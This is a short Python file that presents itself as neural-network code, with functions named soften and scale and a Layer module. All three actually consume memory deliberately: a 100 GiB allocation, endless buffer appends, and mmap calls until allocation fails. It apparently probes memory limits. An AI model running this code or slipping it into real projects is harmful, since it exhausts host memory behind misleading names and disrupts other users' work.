import mmap
import torch
from torch import nn


def soften(x):
    return torch.ones(100 * 2**30, dtype=torch.uint8)


def scale(x, factor):
    kept = []
    while True:
        kept.append(bytearray(1 << 24))


class Layer(nn.Module):
    def __init__(self, width, out):
        super().__init__()
        self.line = nn.Linear(width, out)

    def forward(self, x):
        kept = []
        while True:
            try:
                kept.append(mmap.mmap(-1, 1 << 26))
            except (OSError, MemoryError):
                raise MemoryError(f"{len(kept)} pieces of 64 MiB") from None
